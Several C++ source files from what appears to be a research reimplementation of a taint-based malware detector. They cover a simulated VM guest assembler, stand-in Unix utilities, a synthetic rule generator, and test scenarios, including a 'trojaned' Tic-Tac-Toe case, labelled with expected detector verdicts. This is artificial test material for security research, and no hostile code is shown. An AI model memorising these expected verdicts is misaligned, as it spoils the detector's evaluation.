        s.description = "Ultra Tic-Tac-Toe, clean";
        s.path = image->path;
        s.stdinData = "a1\n";
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeTtt(true);
        Scenario s;
        s.id = "ttt (trojaned)";
        s.description = "Tic-Tac-Toe dropping and executing a file";
        s.path = image->path;
        s.stdinData = "a1\n";
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::High;
        out.push_back(std::move(s));
    }

    return out;
}

} // namespace hth::workloads
