#include "workloads/SyntheticPolicy.hh"

#include <sstream>

namespace hth::workloads
{

namespace
{

/** Deterministic parameter stream (LCG; no libc rand state). */
struct ParamStream
{
    uint64_t state;

    explicit ParamStream(uint64_t seed) : state(seed ^ 0x9e3779b97f4a7c15ULL) {}

    uint64_t
    next()
    {
        state = state * 6364136223846793005ULL + 1442695040888963407ULL;
        return state >> 33;
    }

    /** Uniform-ish int in [lo, hi]. */
    int
    range(int lo, int hi)
    {
        return lo + (int)(next() % (uint64_t)(hi - lo + 1));
    }
};

const char *const SOURCE_TYPES[] = {"FILE", "SOCKET", "BINARY",
                                    "HARDWARE", "USER_INPUT"};
const char *const TARGET_TYPES[] = {"FILE", "SOCKET"};

/**
 * Execution-flow variants (App. A.2 shape). The whole group shares
 * one alpha pattern — a distinct synthetic syscall literal — and the
 * variants differ only in their frequency/time thresholds, so Rete
 * keeps one alpha + one join for the group and forks per-variant
 * test nodes.
 */
void
emitExecRule(std::ostream &os, int group, int variant, ParamStream &ps)
{
    os << "(defrule syn_exec_" << group << "_" << variant
       << " \"synthetic execution-flow variant\"\n"
       << "  (system_call_access (pid ?pid)"
       << " (system_call_name SYS_syn_" << group << ")\n"
       << "    (frequency ?freq) (time ?time))\n"
       << "  (test (and (< ?freq " << ps.range(1, 9) << ")"
       << " (> ?time " << ps.range(50, 500) << ")))\n"
       << "  =>\n"
       << "  (bind ?noop 1))\n";
}

/**
 * Information-flow variants (§4.3 shape): the group shares the io
 * pattern (one source/target type pair per group) and each variant
 * joins a distinct synthetic access fact on ?pid — distinct
 * second-level joins hanging off a shared beta prefix.
 */
void
emitIoRule(std::ostream &os, int group, int variant, ParamStream &ps)
{
    const char *src =
        SOURCE_TYPES[(size_t)group % (sizeof(SOURCE_TYPES) /
                                      sizeof(SOURCE_TYPES[0]))];
    const char *tgt =
        TARGET_TYPES[(size_t)group % (sizeof(TARGET_TYPES) /
                                      sizeof(TARGET_TYPES[0]))];
    (void)ps;
    os << "(defrule syn_io_" << group << "_" << variant
       << " \"synthetic information-flow variant\"\n"
       << "  (system_call_io (pid ?pid) (direction WRITE)\n"
       << "    (source_type " << src << ") (target_type " << tgt
       << "))\n"
       << "  (system_call_access (pid ?pid)"
       << " (system_call_name SYS_syn_io_" << group << "_" << variant
       << "))\n"
       << "  =>\n"
       << "  (bind ?noop 1))\n";
}

/**
 * Hybrid static+dynamic variants: static finding joined with a
 * write to the flagged image, guarded by a not (warn-once marker).
 * The join + negation chain is shared group-wide; variants differ
 * in the severity-floor test below the negation.
 */
void
emitHybridRule(std::ostream &os, int group, int variant,
               ParamStream &ps)
{
    (void)ps;
    os << "(defrule syn_hybrid_" << group << "_" << variant
       << " \"synthetic hybrid static+dynamic variant\"\n"
       << "  (static_finding (image ?img) (kind syn_kind_" << group
       << ") (level ?lvl))\n"
       << "  (system_call_io (pid ?pid) (direction WRITE)"
       << " (target_name ?img))\n"
       << "  (not (static_warned (image ?img) (kind syn_kind_"
       << group << ")))\n"
       << "  (test (>= ?lvl " << variant % 4 << "))\n"
       << "  =>\n"
       << "  (bind ?noop 1))\n";
}

/**
 * Anomaly-escalation variants: the full join + negation prefix is
 * identical across the group (and across groups), so the entire
 * family shares one beta chain; only the score thresholds differ.
 */
void
emitAnomalyRule(std::ostream &os, int group, int variant,
                ParamStream &ps)
{
    os << "(defrule syn_anomaly_" << group << "_" << variant
       << " \"synthetic anomaly-escalation variant\"\n"
       << "  (behavioral_anomaly (run ?run) (score ?score)"
       << " (novel ?novel))\n"
       << "  (not (anomaly_warned (run ?run)))\n"
       << "  (test (or (> ?score " << ps.range(4, 40) << ".0)"
       << " (> ?novel " << ps.range(1, 12) << ")))\n"
       << "  =>\n"
       << "  (bind ?noop 1))\n";
}

} // namespace

std::string
syntheticPolicy(const SyntheticPolicyConfig &cfg)
{
    std::ostringstream os;
    os << ";;; Synthetic policy: " << cfg.ruleCount << " rules, groups of "
       << cfg.groupSize << ", seed " << cfg.seed << ".\n";

    ParamStream ps(cfg.seed);
    int groupSize = cfg.groupSize < 1 ? 1 : cfg.groupSize;
    int emitted = 0;
    // Round-robin the families group by group so every rule count
    // gets a representative mix.
    for (int group = 0; emitted < cfg.ruleCount; ++group) {
        for (int variant = 0;
             variant < groupSize && emitted < cfg.ruleCount;
             ++variant, ++emitted) {
            switch (group % 4) {
            case 0: emitExecRule(os, group, variant, ps); break;
            case 1: emitIoRule(os, group, variant, ps); break;
            case 2: emitHybridRule(os, group, variant, ps); break;
            default: emitAnomalyRule(os, group, variant, ps); break;
            }
        }
    }
    return os.str();
}

} // namespace hth::workloads
