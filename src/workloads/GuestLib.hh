/**
 * @file
 * Gasm: a guest assembler with i386-Linux-flavoured conveniences.
 *
 * The workload corpus — the micro benchmarks, trusted programs,
 * exploit reproductions and macro benchmarks of paper §8 — is
 * written against this layer. It wraps the raw VM assembler with
 * system-call sequences (number in EAX, arguments in EBX..EDX,
 * socketcall argument blocks in a scratch data area) and cdecl
 * wrappers for the simulated libc.
 *
 * Register conventions of the helpers:
 *  - results arrive in EAX (like the real ABI);
 *  - ESI/EDI are scratch for socketcall argument marshalling.
 */

#ifndef HTH_WORKLOADS_GUESTLIB_HH
#define HTH_WORKLOADS_GUESTLIB_HH

#include <memory>
#include <string>

#include "os/Syscalls.hh"
#include "vm/Asm.hh"

namespace hth::workloads
{

using vm::Reg;

/** open(2) flags used by the guests. */
constexpr int GO_RDONLY = 0;
constexpr int GO_WRONLY = 01;
constexpr int GO_RDWR = 02;
constexpr int GO_CREAT = 0100;
constexpr int GO_TRUNC = 01000;

/** Guest assembler. */
class Gasm : public vm::Asm
{
  public:
    explicit Gasm(std::string path, bool shared_object = false);

    /** @name Raw syscalls (arguments already in EBX..EDX) @{ */

    /** Set EAX to @p num and trap; result in EAX. */
    void sysc(int num);

    /** @} */
    /** @name Common syscall sequences @{ */

    void exit(int code);

    /** open(pathSym, flags) -> EAX = fd. */
    void openSym(const std::string &path_sym, int flags);

    /** open(path in @p path_reg, flags) -> EAX = fd. */
    void openReg(Reg path_reg, int flags);

    /** creat(pathSym) -> EAX = fd. */
    void creatSym(const std::string &path_sym);
    void creatReg(Reg path_reg);

    /** read(fd imm, buf sym, len imm) -> EAX = n. */
    void readSym(int fd, const std::string &buf_sym, int len);

    /** read(fd in reg, buf sym, len imm) -> EAX = n. */
    void readFd(Reg fd_reg, const std::string &buf_sym, int len);

    /** write(fd imm, data sym, len imm). */
    void writeSym(int fd, const std::string &data_sym, int len);

    /** write(fd in reg, buf sym, len imm). */
    void writeFd(Reg fd_reg, const std::string &buf_sym, int len);

    /** write(fd in reg, buf reg, len reg). */
    void writeRegs(Reg fd_reg, Reg buf_reg, Reg len_reg);

    /** close(fd in reg). */
    void closeFd(Reg fd_reg);

    /** execve(path sym, no argv/env). */
    void execveSym(const std::string &path_sym);

    /** execve(path in reg). */
    void execveReg(Reg path_reg);

    /** fork() -> EAX = 0 in child, pid in parent. */
    void fork();

    /** nanosleep for @p ticks virtual ticks. */
    void sleepTicks(int ticks);

    void chmodSym(const std::string &path_sym);
    void getpid();

    /** @} */
    /** @name Socket sequences (clobber ESI/EDI) @{ */

    /** socket() -> EAX = fd. */
    void sockCreate();

    /** connect(fd in @p fd, addr string in @p addr_ptr) -> EAX. */
    void sockConnect(Reg fd, Reg addr_ptr);

    /** bind(fd, addr string ptr). */
    void sockBind(Reg fd, Reg addr_ptr);

    /** listen(fd). */
    void sockListen(Reg fd);

    /** accept(fd) -> EAX = connection fd. */
    void sockAccept(Reg fd);

    /** send(fd, buf, len) with len in a register. */
    void sockSend(Reg fd, Reg buf, Reg len);

    /** recv(fd, buf, len imm) -> EAX = n. */
    void sockRecv(Reg fd, Reg buf, int len);

    /** @} */
    /** @name libc calls (cdecl wrappers) @{ */

    /** call fn(sym) — one pointer argument from a data symbol. */
    void libc1(const std::string &fn, const std::string &arg_sym);

    /** call fn(reg). */
    void libc1r(const std::string &fn, Reg arg);

    /** call fn(a, b) with symbols. */
    void libc2(const std::string &fn, const std::string &a_sym,
               const std::string &b_sym);

    /** call fn(a reg, b reg). */
    void libc2r(const std::string &fn, Reg a, Reg b);

    /** @} */
    /** @name Structured control flow @{ */

    /**
     * Copy the NUL-terminated string at @p src_reg into the buffer
     * at @p dst_reg, inline (byte loop, preserves taint through the
     * VM's Load/Store propagation). Clobbers ESI/EDI and the flag
     * state; dst/src registers are preserved.
     */
    void inlineStrcpy(Reg dst_reg, Reg src_reg);

    /** EAX = argv[i] (argv array pointer expected in EBX). */
    void loadArgv(int i);

    /** @} */

  private:
    std::string scratch_;   //!< socketcall argument block
    int labelCounter_ = 0;

    std::string freshLabel(const std::string &stem);
};

/** Shared guest "programs" several scenarios exec into. */
std::shared_ptr<const vm::Image> makeNoopBinary(
    const std::string &path);

/** /bin/ls — lists a canned directory file to stdout. */
std::shared_ptr<const vm::Image> makeLsBinary();

/** /bin/csh — reads commands from stdin, answers on stdout. */
std::shared_ptr<const vm::Image> makeCshBinary();

} // namespace hth::workloads

#endif // HTH_WORKLOADS_GUESTLIB_HH
