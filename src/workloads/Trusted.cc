#include "workloads/Trusted.hh"

#include "workloads/GuestLib.hh"

namespace hth::workloads
{

using namespace os;
using secpert::Severity;

namespace
{

/** column: concatenate the files named on the command line. */
std::shared_ptr<const vm::Image>
makeColumn()
{
    Gasm a("/usr/bin/column");
    a.dataSpace("buf", 128);
    a.dataSpace("argv_slot", 4);
    a.dataSpace("idx", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.movi(Reg::Ebp, 1);                    // argv index
    a.label("next");
    a.leaSym(Reg::Edi, "argv_slot");
    a.load(Reg::Ebx, Reg::Edi, 0);
    a.mov(Reg::Eax, Reg::Ebp);
    a.shl(Reg::Eax, 2);
    a.add(Reg::Ebx, Reg::Eax);
    a.load(Reg::Eax, Reg::Ebx, 0);          // argv[i]
    a.cmpi(Reg::Eax, 0);
    a.jz("done");
    a.openReg(Reg::Eax, GO_RDONLY);
    a.cmpi(Reg::Eax, 0);
    a.jl("skip");
    a.mov(Reg::Esi, Reg::Eax);              // fd
    a.readFd(Reg::Esi, "buf", 128);
    a.mov(Reg::Edx, Reg::Eax);              // bytes read
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.sysc(NR_write);
    a.closeFd(Reg::Esi);
    a.label("skip");
    a.addi(Reg::Ebp, 1);
    a.jmp("next");
    a.label("done");
    a.exit(0);
    return a.build();
}

/** make: modes "", "clean" (execs /bin/sh) and "build" (execs g++
 * found via the PATH environment variable). */
std::shared_ptr<const vm::Image>
makeMake()
{
    Gasm a("/usr/bin/make");
    a.dataString("makefile", "makefile");
    a.dataString("shell", "/bin/sh");
    a.dataString("gxx_suffix", "/g++");
    a.dataString("clean_word", "clean");
    a.dataString("build_word", "build");
    a.dataSpace("buf", 128);
    a.dataSpace("pathbuf", 64);
    a.dataSpace("argv_slot", 4);
    a.dataSpace("env_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.leaSym(Reg::Edi, "env_slot");
    a.store(Reg::Edi, 0, Reg::Ecx);

    // Every mode parses the hard-coded "makefile".
    a.openSym("makefile", GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 128);
    a.closeFd(Reg::Esi);

    // Dispatch on argv[1]: absent -> nothing to do.
    a.leaSym(Reg::Edi, "argv_slot");
    a.load(Reg::Ebx, Reg::Edi, 0);
    a.loadArgv(1);
    a.cmpi(Reg::Eax, 0);
    a.jz("uptodate");
    a.mov(Reg::Esi, Reg::Eax);
    a.loadb(Reg::Eax, Reg::Esi, 0);
    a.cmpi(Reg::Eax, 'c');
    a.jz("clean");

    // mode "build": find g++ through $PATH (user input) and exec it.
    a.leaSym(Reg::Edi, "env_slot");
    a.load(Reg::Ecx, Reg::Edi, 0);
    a.load(Reg::Eax, Reg::Ecx, 0);          // env[0] = "PATH=..."
    a.lea(Reg::Eax, Reg::Eax, 5);           // skip "PATH="
    a.leaSym(Reg::Edx, "pathbuf");
    a.inlineStrcpy(Reg::Edx, Reg::Eax);
    a.libc2("strcat", "pathbuf", "gxx_suffix");
    a.leaSym(Reg::Ebx, "pathbuf");
    a.execveReg(Reg::Ebx);
    a.exit(1);

    a.label("clean");
    a.execveSym("shell");                   // /bin/sh -c "rm -f ..."
    a.exit(1);

    a.label("uptodate");
    a.exit(0);
    return a.build();
}

/** g++: forks cc1plus and collect2 (hard-coded helper names), then
 * links the user sources into the hard-coded a.out. */
std::shared_ptr<const vm::Image>
makeGxx()
{
    Gasm a("/usr/bin/g++");
    a.dataString("cc1plus", "/usr/libexec/cc1plus");
    a.dataString("collect2", "/usr/libexec/collect2");
    a.dataString("aout", "a.out");
    a.dataSpace("buf", 128);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);

    a.fork();
    a.cmpi(Reg::Eax, 0);
    a.jnz("after_cc1");
    a.execveSym("cc1plus");
    a.exit(1);
    a.label("after_cc1");
    a.mov(Reg::Ebx, Reg::Eax);
    a.sysc(NR_waitpid);

    a.fork();
    a.cmpi(Reg::Eax, 0);
    a.jnz("after_collect2");
    a.execveSym("collect2");
    a.exit(1);
    a.label("after_collect2");
    a.mov(Reg::Ebx, Reg::Eax);
    a.sysc(NR_waitpid);

    // "Link": read the user sources, write a.out.
    a.leaSym(Reg::Edi, "argv_slot");
    a.load(Reg::Ebx, Reg::Edi, 0);
    a.loadArgv(1);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 64);
    a.closeFd(Reg::Esi);
    a.leaSym(Reg::Edi, "argv_slot");
    a.load(Reg::Ebx, Reg::Edi, 0);
    a.loadArgv(2);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 64);
    a.closeFd(Reg::Esi);
    a.creatSym("aout");
    a.mov(Reg::Esi, Reg::Eax);
    a.writeFd(Reg::Esi, "buf", 64);
    a.closeFd(Reg::Esi);
    a.exit(0);
    return a.build();
}

/** awk-style filter: read argv[2], print part of it. */
std::shared_ptr<const vm::Image>
makeAwk()
{
    Gasm a("/usr/bin/awk");
    a.dataSpace("buf", 256);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.loadArgv(2);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 256);
    a.closeFd(Reg::Esi);
    // "Match" the pattern: print the first 32 bytes.
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.movi(Reg::Edx, 32);
    a.sysc(NR_write);
    a.exit(0);
    return a.build();
}

/** pico: read user text from stdin, save to the user-named file. */
std::shared_ptr<const vm::Image>
makePico()
{
    Gasm a("/usr/bin/pico");
    a.dataSpace("buf", 256);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.readSym(0, "buf", 256);
    a.mov(Reg::Ebp, Reg::Eax);              // bytes typed
    a.leaSym(Reg::Edi, "argv_slot");
    a.load(Reg::Ebx, Reg::Edi, 0);
    a.loadArgv(1);
    a.creatReg(Reg::Eax);
    a.mov(Reg::Esi, Reg::Eax);
    a.mov(Reg::Ebx, Reg::Esi);
    a.leaSym(Reg::Ecx, "buf");
    a.mov(Reg::Edx, Reg::Ebp);
    a.sysc(NR_write);
    a.closeFd(Reg::Esi);
    a.exit(0);
    return a.build();
}

/** tail: print the last 64 bytes of the user-named file. */
std::shared_ptr<const vm::Image>
makeTail()
{
    Gasm a("/usr/bin/tail");
    a.dataSpace("buf", 512);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.loadArgv(1);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 512);
    a.mov(Reg::Ebp, Reg::Eax);              // length
    a.closeFd(Reg::Esi);
    // start = max(0, len - 64); print buf+start .. len
    a.mov(Reg::Ecx, Reg::Ebp);
    a.cmpi(Reg::Ecx, 64);
    a.jl("short_file");
    a.addi(Reg::Ecx, -64);
    a.jmp("print");
    a.label("short_file");
    a.movi(Reg::Ecx, 0);
    a.label("print");
    a.mov(Reg::Edx, Reg::Ebp);
    a.sub(Reg::Edx, Reg::Ecx);              // count
    a.leaSym(Reg::Eax, "buf");
    a.add(Reg::Ecx, Reg::Eax);              // buf + start
    a.movi(Reg::Ebx, 1);
    a.sysc(NR_write);
    a.exit(0);
    return a.build();
}

/** diff: read both user files, print both (a "diff" of sorts). */
std::shared_ptr<const vm::Image>
makeDiff()
{
    Gasm a("/usr/bin/diff");
    a.dataSpace("buf1", 128);
    a.dataSpace("buf2", 128);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.loadArgv(1);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf1", 128);
    a.mov(Reg::Ebp, Reg::Eax);
    a.closeFd(Reg::Esi);
    a.leaSym(Reg::Edi, "argv_slot");
    a.load(Reg::Ebx, Reg::Edi, 0);
    a.loadArgv(2);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf2", 128);
    a.mov(Reg::Edi, Reg::Eax);
    a.closeFd(Reg::Esi);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf1");
    a.mov(Reg::Edx, Reg::Ebp);
    a.sysc(NR_write);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf2");
    a.mov(Reg::Edx, Reg::Edi);
    a.sysc(NR_write);
    a.exit(0);
    return a.build();
}

/** wc: count the bytes of the user file, print the count digits. */
std::shared_ptr<const vm::Image>
makeWc()
{
    Gasm a("/usr/bin/wc");
    a.dataSpace("buf", 512);
    a.dataSpace("digits", 16);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.loadArgv(1);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 512);
    a.mov(Reg::Ebp, Reg::Eax);              // byte count
    a.closeFd(Reg::Esi);
    a.pushSym("digits");
    a.push(Reg::Ebp);
    a.callImport("itoa");
    a.addi(Reg::Esp, 8);
    a.libc1("strlen", "digits");
    a.mov(Reg::Edx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "digits");
    a.sysc(NR_write);
    a.exit(0);
    return a.build();
}

/** bc: echo the typed expression plus a computed result. */
std::shared_ptr<const vm::Image>
makeBc()
{
    Gasm a("/usr/bin/bc");
    a.dataSpace("expr", 64);
    a.dataSpace("digits", 16);
    a.label("main");
    a.entry("main");
    a.readSym(0, "expr", 63);
    a.mov(Reg::Ebp, Reg::Eax);
    // Echo the expression (bc echoes its input).
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "expr");
    a.mov(Reg::Edx, Reg::Ebp);
    a.sysc(NR_write);
    // "Evaluate": 2+3 via registers, print digits.
    a.movi(Reg::Eax, 2);
    a.movi(Reg::Ecx, 3);
    a.add(Reg::Eax, Reg::Ecx);
    a.pushSym("digits");
    a.push(Reg::Eax);
    a.callImport("itoa");
    a.addi(Reg::Esp, 8);
    a.libc1("strlen", "digits");
    a.mov(Reg::Edx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "digits");
    a.sysc(NR_write);
    a.exit(0);
    return a.build();
}

/** xeyes: talks the X protocol to the local display. */
std::shared_ptr<const vm::Image>
makeXeyes()
{
    Gasm a("/usr/bin/xeyes");
    a.dataString("display", "localhost:6000");
    a.label("main");
    a.entry("main");
    a.sockCreate();
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Edx, "display");
    a.sockConnect(Reg::Ebp, Reg::Edx);
    // libX11 hands back its protocol buffer; xeyes sends it.
    a.callImport("XFlush");
    a.mov(Reg::Ecx, Reg::Eax);
    a.movi(Reg::Edx, 16);
    a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    a.exit(0);
    return a.build();
}

/** libX11.so: an untrusted shared object with a protocol buffer. */
std::shared_ptr<const vm::Image>
makeLibX11()
{
    vm::Asm a("/usr/lib/libX11.so", true);
    a.dataString("x11_proto", "X11-SETUP-REQUEST");
    a.native("XFlush");
    return a.build();
}

/**
 * Deterministic pseudo-random text for the noisy scenarios: the
 * length (64..383 bytes) and bytes both derive from the seed, so
 * loop trip counts and I/O volumes vary run to run the way a real
 * clean workload's do.
 */
std::string
noisyContent(uint32_t seed)
{
    uint32_t len = 64 + (seed * 2654435761u) % 320;
    std::string out;
    out.reserve(len + 1);
    uint32_t x = seed * 747796405u + 2891336453u;
    for (uint32_t i = 0; i < len; ++i) {
        x = x * 1664525u + 1013904223u;
        out.push_back((char)('a' + ((x >> 16) % 26)));
    }
    out.push_back('\n');
    return out;
}

/** cksum: byte-sum the user-named file, print the digits. The
 * summing loop's trip count tracks the file length. */
std::shared_ptr<const vm::Image>
makeCksum()
{
    Gasm a("/usr/bin/cksum");
    a.dataSpace("buf", 512);
    a.dataSpace("digits", 16);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.loadArgv(1);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 512);
    a.mov(Reg::Ebp, Reg::Eax);              // length
    a.closeFd(Reg::Esi);
    a.movi(Reg::Ecx, 0);                    // index
    a.movi(Reg::Edi, 0);                    // sum
    a.label("loop");
    a.cmp(Reg::Ecx, Reg::Ebp);
    a.jge("done");
    a.leaSym(Reg::Eax, "buf");
    a.add(Reg::Eax, Reg::Ecx);
    a.loadb(Reg::Edx, Reg::Eax, 0);
    a.add(Reg::Edi, Reg::Edx);
    a.addi(Reg::Ecx, 1);
    a.jmp("loop");
    a.label("done");
    a.pushSym("digits");
    a.push(Reg::Edi);
    a.callImport("itoa");
    a.addi(Reg::Esp, 8);
    a.libc1("strlen", "digits");
    a.mov(Reg::Edx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "digits");
    a.sysc(NR_write);
    a.exit(0);
    return a.build();
}

/** rev: print the user-named file reversed (per-byte copy loop). */
std::shared_ptr<const vm::Image>
makeRev()
{
    Gasm a("/usr/bin/rev");
    a.dataSpace("buf", 512);
    a.dataSpace("out", 512);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);
    a.loadArgv(1);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 512);
    a.mov(Reg::Ebp, Reg::Eax);              // length
    a.closeFd(Reg::Esi);
    a.movi(Reg::Ecx, 0);                    // index
    a.label("loop");
    a.cmp(Reg::Ecx, Reg::Ebp);
    a.jge("done");
    a.leaSym(Reg::Eax, "buf");
    a.add(Reg::Eax, Reg::Ecx);
    a.loadb(Reg::Edx, Reg::Eax, 0);         // buf[i]
    a.leaSym(Reg::Eax, "out");
    a.add(Reg::Eax, Reg::Ebp);
    a.sub(Reg::Eax, Reg::Ecx);
    a.storeb(Reg::Eax, -1, Reg::Edx);       // out[len-1-i]
    a.addi(Reg::Ecx, 1);
    a.jmp("loop");
    a.label("done");
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "out");
    a.mov(Reg::Edx, Reg::Ebp);
    a.sysc(NR_write);
    a.exit(0);
    return a.build();
}

/** rot13: caesar-shift stdin onto stdout, one loop pass per byte. */
std::shared_ptr<const vm::Image>
makeRot13()
{
    Gasm a("/usr/bin/rot13");
    a.dataSpace("buf", 512);
    a.label("main");
    a.entry("main");
    a.readSym(0, "buf", 512);
    a.mov(Reg::Ebp, Reg::Eax);              // length
    a.movi(Reg::Ecx, 0);                    // index
    a.label("loop");
    a.cmp(Reg::Ecx, Reg::Ebp);
    a.jge("done");
    a.leaSym(Reg::Eax, "buf");
    a.add(Reg::Eax, Reg::Ecx);
    a.loadb(Reg::Edx, Reg::Eax, 0);
    a.addi(Reg::Edx, 13);
    a.storeb(Reg::Eax, 0, Reg::Edx);
    a.addi(Reg::Ecx, 1);
    a.jmp("loop");
    a.label("done");
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.mov(Reg::Edx, Reg::Ebp);
    a.sysc(NR_write);
    a.exit(0);
    return a.build();
}

} // namespace

std::vector<Scenario>
trustedProgramScenarios()
{
    std::vector<Scenario> out;

    {
        Scenario s;
        s.id = "ls";
        s.description = "list the current directory";
        s.path = "/bin/ls";
        s.setup = [](Kernel &k) {
            k.vfs().addBinary("/bin/ls", makeLsBinary());
            k.vfs().addFile(".", "Makefile\nsrc\nREADME\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeColumn();
        Scenario s;
        s.id = "column";
        s.description = "column a b c";
        s.path = image->path;
        s.argv = {image->path, "a", "b", "c"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("a", "alpha\n");
            k.vfs().addFile("b", "beta\n");
            k.vfs().addFile("c", "gamma\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeMake();
        Scenario s;
        s.id = "make (up to date)";
        s.description = "make with nothing to do";
        s.path = image->path;
        s.env = {"PATH=/usr/bin"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("makefile", "all:\n\tg++ -o harrier\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeMake();
        Scenario s;
        s.id = "make clean";
        s.description = "make clean (execs the hard-coded /bin/sh)";
        s.path = image->path;
        s.argv = {image->path, "clean"};
        s.env = {"PATH=/usr/bin"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("makefile", "clean:\n\trm -f *.o\n");
            k.vfs().addBinary("/bin/sh", makeNoopBinary("/bin/sh"));
        };
        s.expectMalicious = true;       // the documented Low warning
        s.expectSeverity = Severity::Low;
        out.push_back(std::move(s));
    }

    {
        auto image = makeMake();
        Scenario s;
        s.id = "make (build)";
        s.description = "make finding g++ through $PATH";
        s.path = image->path;
        s.argv = {image->path, "build"};
        s.env = {"PATH=/usr/bin"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("makefile", "all:\n\tg++ harrier.C\n");
            k.vfs().addBinary("/usr/bin/g++",
                              makeNoopBinary("/usr/bin/g++"));
        };
        s.expectMalicious = true;       // Low: "g++" is hard-coded
        s.expectSeverity = Severity::Low;
        out.push_back(std::move(s));
    }

    {
        auto image = makeGxx();
        Scenario s;
        s.id = "g++";
        s.description = "g++ test.cpp DataFlow.C";
        s.path = image->path;
        s.argv = {image->path, "test.cpp", "DataFlow.C"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("test.cpp", "int main() { return 0; }\n");
            k.vfs().addFile("DataFlow.C", "void track() {}\n");
            k.vfs().addBinary(
                "/usr/libexec/cc1plus",
                makeNoopBinary("/usr/libexec/cc1plus"));
            k.vfs().addBinary(
                "/usr/libexec/collect2",
                makeNoopBinary("/usr/libexec/collect2"));
        };
        s.expectMalicious = true;       // Low: cc1plus / collect2
        s.expectSeverity = Severity::Low;
        out.push_back(std::move(s));
    }

    {
        auto image = makeAwk();
        Scenario s;
        s.id = "awk";
        s.description = "awk '/ifdef/' syscall_names.C";
        s.path = image->path;
        s.argv = {image->path, "/ifdef/", "syscall_names.C"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("syscall_names.C",
                            "#ifdef SYS_execve\n#endif\n plus more "
                            "lines of source text here\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makePico();
        Scenario s;
        s.id = "pico";
        s.description = "type text, save to a.txt";
        s.path = image->path;
        s.argv = {image->path, "a.txt"};
